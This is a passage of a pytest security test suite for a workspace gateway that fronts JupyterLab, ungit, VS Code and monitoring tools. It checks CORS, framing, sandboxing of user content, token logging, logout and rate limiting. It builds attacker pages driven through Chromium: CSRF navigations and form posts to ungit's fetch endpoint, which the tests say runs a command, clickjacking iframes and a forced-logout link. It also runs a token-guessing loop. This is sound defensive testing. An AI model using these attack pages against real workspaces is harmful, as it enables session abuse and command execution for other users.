    assert after.status_code == 200, f"{case}: a GET of B/_mlws/logout from another site logged the user out ({after.status_code})"


# === 4. /tools/<port>/: other users' listeners, credentials to the workspace user's =================

def test_tools_port_does_not_serve_another_users_listener(ws, session, listeners):
    intruder, own = listeners["intruder"], listeners["own"]
    served = session.get(ws.url(f"{BASE}/tools/{own.port}/"), allow_redirects=False, timeout=20)
    assert served.status_code == 200 and own.marker in served.text, (
        f"control: the workspace user's own listener is not served ({served.status_code}: {served.text[:200]})")
    answer = session.get(ws.url(f"{BASE}/tools/{intruder.port}/"), allow_redirects=False, timeout=20)
    time.sleep(0.5)  # the listener's output is read by a thread
    assert intruder.marker not in answer.text, (
        f"the page of {intruder.user} (uid {intruder.uid()}) on port {intruder.port} is served on the workspace origin")
    assert not intruder.requests, f"the gateway forwarded requests to {intruder.user}'s listener: {intruder.requests}"


@pytest.mark.parametrize("credential", ["cookie", "authorization"])
def test_tools_port_forwards_no_credentials_to_the_workspace_users_listener(ws, session, listeners, credential):
    own = listeners["own"]
    probe = "rec-" + secrets.token_hex(4)
    headers = {"Cookie": cookie_header(session)} if credential == "cookie" else {"Authorization": f"token {TOKEN}"}
    answer = requests.get(ws.url(f"{BASE}/tools/{own.port}/{probe}"), headers=headers, allow_redirects=False, timeout=20)
    assert answer.status_code == 200 and own.marker in answer.text, (
        f"control: the listener did not answer through the gateway ({answer.status_code}: {answer.text[:200]})")
    seen = own.wait_requests(probe)
    assert seen, "control: the request did not reach the listener"
    forwarded = seen[-1]["headers"]
    assert "authorization" not in forwarded, f"Authorization reached the listener: {forwarded['authorization']}"
    cookies = forwarded.get("cookie", "")
    for name, value in session_cookies(session).items():
        assert name not in cookies and value not in cookies, f"the session cookie reached the listener: {cookies}"
    assert "mlws_session" not in cookies and TOKEN not in json.dumps(forwarded), forwarded


# === 5. user content served as HTML on the workspace origin ========================================

def user_content_urls(ws, repo) -> dict[str, str]:
    path = repo["path"]
    return {
        "ungit-image-diff-worktree": ws.url(f"{BASE}/tools/ungit/api/diff/image?" + urllib.parse.urlencode(
            {"path": path, "filename": "evil.html", "version": "current"})),
        "ungit-image-diff-commit": ws.url(f"{BASE}/tools/ungit/api/diff/image?" + urllib.parse.urlencode(
            {"path": path, "filename": "evil.html", "version": "HEAD"})),
        "vscode-remote-resource": ws.url(f"{BASE}/tools/vscode/vscode-remote-resource?" + urllib.parse.urlencode(
            {"path": os.path.join(path, "evil.html")})),
    }


@pytest.mark.parametrize("route", ["ungit-image-diff-worktree", "ungit-image-diff-commit", "vscode-remote-resource"])
def test_user_content_is_sandboxed(ws, session, repo, route):
    answer = session.get(user_content_urls(ws, repo)[route], allow_redirects=False, timeout=20)
    assert answer.status_code == 200 and answer.text == repo["evil"], (
        f"control: {route} does not serve the repository's file ({answer.status_code}: {answer.text[:200]})")
    assert sandboxed(answer), (
        f"{route}: served as {answer.headers.get('Content-Type')!r} without a sandboxing CSP "
        f"(Content-Security-Policy: {answer.headers.get('Content-Security-Policy')!r})")
    assert nosniff(answer), f"{route}: no X-Content-Type-Options: nosniff"


# === 7. headers, CORS, rate limit, access log ========================================================

TOOL_PAGES = ["/lab", "/tree", "/tools/vnc/vnc.html", "/tools/vscode/", "/tools/ungit/", "/tools/netdata/",
              "/tools/glances/", "/tools/tensorboard/"]


@pytest.mark.parametrize("path", TOOL_PAGES)
def test_tool_pages_forbid_framing_and_sniffing(ws, session, path):
    answer = session.get(ws.url(BASE + path), timeout=20)
    assert answer.status_code == 200, f"control: {path} not served ({answer.status_code})"
    assert framing_forbidden(answer), (
        f"{path}: neither CSP frame-ancestors 'self' nor X-Frame-Options (CSP: "
        f"{answer.headers.get('Content-Security-Policy')!r}, XFO: {answer.headers.get('X-Frame-Options')!r})")
    assert nosniff(answer), f"{path}: no X-Content-Type-Options: nosniff"


CORS_URLS = ["/tools/netdata/api/v1/info", "/tools/glances/api/4/status", "/tools/tensorboard/data/runs",
             "/api/contents"]


@pytest.mark.parametrize("path", CORS_URLS)
def test_no_credentialed_cors_for_a_foreign_origin(ws, session, attacker, path):
    url = ws.url(BASE + path)
    control = session.get(url, allow_redirects=False, timeout=20)
    assert control.status_code == 200, f"control: {path} not served to the workspace ({control.status_code})"
    for origin, site in ((attacker.same_site, "same-site"), (attacker.cross_site, "cross-site"),
                         ("http://evil.example", "cross-site")):
        for method, extra in (("GET", {}), ("OPTIONS", {"Access-Control-Request-Method": "GET",
                                                        "Access-Control-Request-Headers": "x-requested-with"})):
            headers = browser_headers(site, "cors", "empty", f"{origin}/attack.html", origin=origin,
                                      cookie=cookie_header(session))
            headers.update(extra)
            answer = requests.request(method, url, headers=headers, allow_redirects=False, timeout=20)
            allowed = answer.headers.get("Access-Control-Allow-Origin", "")
            assert allowed != origin and allowed != "null", (
                f"{method} {path} from {origin}: Access-Control-Allow-Origin: {allowed} "
                f"(credentials: {answer.headers.get('Access-Control-Allow-Credentials')})")
            if allowed:
                assert answer.headers.get("Access-Control-Allow-Credentials", "").lower() != "true", (method, path, allowed)


def test_the_token_is_not_in_the_access_log(ws):
    """The token link (a browser navigation), `?token=` of an API client and `Authorization: token`:
    the gateway's access log records the requests, never the token."""
    probe = "logprobe-" + secrets.token_hex(4)
    browser_like = requests.Session()
    first = browser_like.get(ws.url(f"{BASE}/{probe}-link?token={TOKEN}"), allow_redirects=False, timeout=20,
                             headers=TOKEN_LINK_HEADERS)
    assert first.status_code == 302 and browser_like.cookies, f"control: the token link did not log in ({first.status_code})"
    query = requests.get(ws.url(f"{BASE}/api/contents/{probe}-query?token={TOKEN}"), allow_redirects=False, timeout=20)
    header = requests.get(ws.url(f"{BASE}/api/contents/{probe}-header"), headers={"Authorization": f"token {TOKEN}"},
                          allow_redirects=False, timeout=20)
    log_file = os.path.join(ws.runtime_dir, "nginx", "access.log")
    wanted = [f"/{probe}-link", f"/{probe}-query", f"/{probe}-header"]
    deadline = time.monotonic() + 10
    text = ""
    while time.monotonic() < deadline:  # nginx flushes its log buffer every second
        with open(log_file, encoding="utf-8", errors="replace") as handle:
            text = handle.read()
        if all(path in text for path in wanted):
            break
        time.sleep(0.3)
    assert all(path in text for path in wanted), (
        f"control: the access log ({log_file}) does not record the requests {wanted} "
        f"(answers: {first.status_code}, {query.status_code}, {header.status_code})")
    assert TOKEN not in text and urllib.parse.quote(TOKEN, safe="") not in text, (
        "the token is in the access log: " + next(line for line in text.splitlines() if TOKEN in line))


# === Chromium: real attacker pages ===================================================================

def test_chromium_cross_site_page(ws, browser, attacker, git_remote, repo):
    """A page on http://localhost:<A>/ (another site): websockets, credentialed fetches, then the
    one-click attack (a top-level navigation to ungit's /api/fetch)."""
    case = "cdp-cross-site-navigation"
    attacker.pages["/cross-site.html"] = page(f"""
      (async function () {{
        var results = await probeAll({js(ws.origin)}, {js(BASE)});
        await report('cross-site', results);
        location.href = {js(ungit_fetch_url(ws, repo, git_remote, case))};
      }})();""")
    since = time.monotonic()
    browser.navigate(attacker.cross_site + "/cross-site.html")
    reports = attacker.wait_report("cross-site", since, 30)
    assert reports, "the attacker page did not report (Chromium or the test server is broken)"
    # The navigation's answer came back (ungit answers once git has run), and the page shows it.
    answer = browser.wait_response(ws.url(f"{BASE}/tools/ungit/api/fetch"), contains=case)
    browser.wait_location(ws.origin, 60)
    problems = probe_failures(reports[0]["data"])
    touched, contacted = command_ran(ws, git_remote, case, wait=WAIT_EFFECT)
    if touched or contacted:
        problems.append(f"the top-level navigation ran the command (HTTP {answer['status']}; marker: {touched}, "
                        f"git contacted: {contacted})")
    same_origin_controls(browser, ws, repo, git_remote, case + "-control")
    assert not problems, "\n".join(problems)


def test_chromium_same_site_page(ws, browser, attacker, git_remote, repo):
    """A page on http://127.0.0.1:<A>/ (same site, another origin: the cookie rides along on every
    request): websockets, credentialed fetches, a no-cors request and a form submission to ungit."""
    nocors, form = "cdp-same-site-no-cors", "cdp-same-site-form"
    inputs = "".join(f'<input type="hidden" name="{name}" value="">' for name in ("path", "socketId", "remote"))
    attacker.pages["/same-site.html"] = page(f"""
      (async function () {{
        var results = await probeAll({js(ws.origin)}, {js(BASE)});
        results.nocors = await probeFetch({js(ungit_fetch_url(ws, repo, git_remote, nocors))},
                                          {{mode: 'no-cors', credentials: 'include'}});
        await report('same-site', results);
        var form = document.forms[0], values = {js(ungit_fetch_query(ws, repo, git_remote, form))};
        for (var name in values) form.elements[name].value = values[name];
        form.submit();
      }})();""", body=f'<form method="GET" action="{ws.url(BASE + "/tools/ungit/api/fetch")}">{inputs}</form>')
    since = time.monotonic()
    browser.navigate(attacker.same_site + "/same-site.html")
    reports = attacker.wait_report("same-site", since, 30)
    assert reports, "the attacker page did not report (Chromium or the test server is broken)"
    browser.wait_response(ws.url(f"{BASE}/tools/ungit/api/fetch"), contains=form)  # the form's answer
    browser.wait_location(ws.origin, 60)
    problems = probe_failures(reports[0]["data"])
    for case in (nocors, form):
        touched, contacted = command_ran(ws, git_remote, case, wait=WAIT_EFFECT)
        if touched or contacted:
            problems.append(f"{case}: the command ran (marker: {touched}, git contacted: {contacted})")
    same_origin_controls(browser, ws, repo, git_remote, "cdp-same-site-control")
    assert not problems, "\n".join(problems)


FRAMED = {"lab": ("/lab", r"JupyterLab"), "ungit": ("/tools/ungit/", r"^ungit$"), "vnc": ("/tools/vnc/vnc.html", r"noVNC")}


@pytest.mark.parametrize("host", ["same_site", "cross_site"])
def test_chromium_frames_of_workspace_pages_do_not_render(ws, browser, attacker, host):
    frames = "".join(f'<iframe name="{name}" src="{ws.url(BASE + path)}" width="400" height="300"></iframe>'
                     for name, (path, _) in FRAMED.items())
    attacker.pages["/frames.html"] = page(f"""
      var pending = {len(FRAMED)};
      function loaded() {{ if (--pending === 0) report('frames', {{}}); }}
      document.querySelectorAll('iframe').forEach(function (f) {{ f.onload = loaded; }});
      setTimeout(function () {{ report('frames', {{timeout: true}}); }}, 15000);""", body=frames)
    since = time.monotonic()
    browser.navigate(getattr(attacker, host) + "/frames.html")
    assert attacker.wait_report("frames", since, 30), "the framing page did not report"
    # Rendered: the frame holds a document of the workspace's origin (a refused frame holds
    # Chromium's error page, chrome-error://, with an opaque origin).
    rendered = [f"{frame['name']}: {frame['url']} (title {frame['title']!r})" for frame in browser.frames()
                if frame["name"] in FRAMED and frame["origin"] == ws.origin]
    # Control: the same frames on a workspace page (same origin) do render.
    browser.navigate(ws.url(f"{BASE}/lab"))
    titles = browser.evaluate(f"""(async function () {{
        var wanted = {js({name: [BASE + path, title] for name, (path, title) in FRAMED.items()})}, out = {{}};
        await Promise.all(Object.keys(wanted).map(function (name) {{ return new Promise(function (resolve) {{
          var f = document.createElement('iframe'), began = Date.now();
          f.src = wanted[name][0];
          f.onload = function poll() {{
            try {{ out[name] = f.contentDocument.title; }} catch (e) {{ out[name] = 'unreadable: ' + e; }}
            if (new RegExp(wanted[name][1]).test(out[name]) || Date.now() - began > 20000) resolve();
            else setTimeout(poll, 250);
          }};
          document.body.appendChild(f); }}); }}));
        return out; }})()""", await_promise=True, timeout=60)
    for name, (_, title) in FRAMED.items():
        assert re.search(title, titles.get(name) or ""), f"control: {name} does not render in a same-origin frame: {titles}"
    assert not rendered, f"workspace pages render inside a page of {getattr(attacker, host)}: {rendered}"


def test_chromium_user_content_cannot_read_the_workspace(ws, browser, attacker, repo):
    """A repository's .html opened through ungit's image diff and VS Code's resource route, both as
    the user opening the link and as an attacker page navigating the browser there."""
    got = []
    for route, url in user_content_urls(ws, repo).items():
        if route == "ungit-image-diff-commit":
            continue  # same route and headers as the worktree variant
        for how in ("opened by the user", "navigated to by another site"):
            since = time.monotonic()
            if how == "opened by the user":
                browser.navigate(url)
            else:
                attacker.pages["/evil-nav.html"] = page(f"location.href = {js(url)};")
                browser.navigate(attacker.cross_site + "/evil-nav.html")
                browser.wait_response(url.partition("?")[0])
                browser.wait_location(ws.origin, 30)
            for found in attacker.wait_report("evil", since, WAIT_EFFECT):
                data = found["data"]
                if data.get("status") == 200 or repo["name"] in json.dumps(data):
                    got.append(f"{route}, {how}: the file's script read B/api/contents as {data.get('origin')}: "
                               f"{str(data)[:200]}")
    # Control: a script of the workspace's own pages does read it.
    browser.navigate(ws.url(f"{BASE}/lab"))
    control = browser.evaluate(f"fetch({js(BASE + '/api/contents')}, {{cache: 'no-store'}}).then(r => r.text())", await_promise=True)
    assert repo["name"] in control, f"control: B/api/contents does not list the repository: {control[:300]}"
    assert not got, "\n".join(got)


def test_chromium_another_users_listener_cannot_read_the_token(ws, browser, attacker, listeners):
    intruder, own = listeners["intruder"], listeners["own"]
    since = time.monotonic()
    browser.navigate(ws.url(f"{BASE}/tools/{intruder.port}/"))
    reports = attacker.wait_report("intruder", since, WAIT_EFFECT)
    stolen = [r["data"] for r in reports if r["data"].get("token") or r["data"].get("contents") == 200]
    browser.navigate(ws.url(f"{BASE}/tools/{own.port}/"))
    assert browser.evaluate("document.title") == own.marker, "control: the workspace user's listener does not render"
    assert not stolen, f"{intruder.user}'s page on the workspace origin read: {stolen}"


def test_chromium_logout_link_on_another_site_does_not_log_out(ws, browser, attacker):
    browser.navigate(ws.url(f"{BASE}/lab"))
    status = browser.evaluate(f"fetch({js(BASE + '/api/contents')}, {{cache: 'no-store'}}).then(r => r.status)", await_promise=True)
    assert status == 200, "control: the browser is not logged in"
    attacker.pages["/logout.html"] = page(f"location.href = {js(ws.url(BASE + '/_mlws/logout'))};")
    try:
        browser.navigate(attacker.cross_site + "/logout.html")
        answer = browser.wait_response(ws.url(BASE + "/_mlws/logout"))
        browser.wait_location(ws.origin, 30)
        browser.navigate(ws.url(f"{BASE}/lab"))
        after = browser.evaluate(f"fetch({js(BASE + '/api/contents')}, {{cache: 'no-store'}}).then(r => r.status)", await_promise=True)
        assert after == 200, (
            f"a link on another site logged the browser out (logout answered {answer['status']}; api/contents: {after})")
    finally:
        login(browser, ws)  # whatever happened, the next tests get a logged-in browser


# === 3 (end). logout revokes; 7 (last). rate limit ==================================================

def test_logout_post_revokes_the_session_server_side(ws, session):
    victim = session_with_token(ws, TOKEN)
    contents = ws.url(f"{BASE}/api/contents")
    old = cookie_header(victim)
    assert requests.get(contents, headers={"Cookie": old}, allow_redirects=False, timeout=20).status_code == 200, (
        "control: the fresh login does not work")
    headers = browser_headers("same-origin", "navigate", "document", ws.url(f"{BASE}/lab"), origin=ws.origin,
                              cookie=old, user=True)
    headers["Content-Type"] = "application/x-www-form-urlencoded"
    requests.post(ws.url(f"{BASE}/_mlws/logout"), data="", headers=headers, allow_redirects=False, timeout=20)
    after = requests.get(contents, headers={"Cookie": old}, allow_redirects=False, timeout=20)
    assert after.status_code != 200, "after the logout POST the old cookie value still works (no server-side revocation)"
    assert session.get(contents, allow_redirects=False, timeout=20).status_code == 200, (
        "the logout ended another login's session too (sessions must be per login)")
    assert session_with_token(ws, TOKEN).get(contents, timeout=20).status_code == 200, "control: logging in again fails"


def test_wrong_tokens_are_rate_limited(ws):
    """200 wrong guesses, fast (token links, `?token=` of API clients, `Authorization: token`): most
    are answered 429; the right token still works afterwards (possibly after a short wait)."""
    def guess(index: int) -> int:
        kind = index % 3
        if kind == 0:
            answer = requests.get(ws.url(f"{BASE}/lab?token=wrong-{index}"), headers=TOKEN_LINK_HEADERS,
                                  allow_redirects=False, timeout=20)
        elif kind == 1:
            answer = requests.get(ws.url(f"{BASE}/api/status?token=wrong-{index}"), allow_redirects=False, timeout=20)
        else:
            answer = requests.get(ws.url(f"{BASE}/api/status"), headers={"Authorization": f"token wrong-{index}"},
                                  allow_redirects=False, timeout=20)
        return answer.status_code

    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        statuses = list(pool.map(guess, range(200)))
    counts = {status: statuses.count(status) for status in set(statuses)}
    assert not any(200 <= status < 300 for status in statuses), f"a wrong token was accepted: {counts}"
    # Control: afterwards the right token works, as a token link and as a header.
    deadline = time.monotonic() + RATE_LIMIT_RECOVERY
    while True:
        header_ok = requests.get(ws.url(f"{BASE}/api/status"), headers={"Authorization": f"token {TOKEN}"},
                                 allow_redirects=False, timeout=20).status_code == 200
        link = requests.get(ws.url(f"{BASE}/lab?token={TOKEN}"), headers=TOKEN_LINK_HEADERS, allow_redirects=False,
                            timeout=20)
        link_ok = link.status_code == 302 and "set-cookie" in link.headers
        if header_ok and link_ok or time.monotonic() > deadline:
            break
        time.sleep(2)
    assert header_ok and link_ok, (
        f"the right token no longer works after the guesses (header: {header_ok}, link: {link.status_code})")
    assert counts.get(429, 0) > len(statuses) // 2, f"wrong tokens are not rate limited: statuses {counts}"
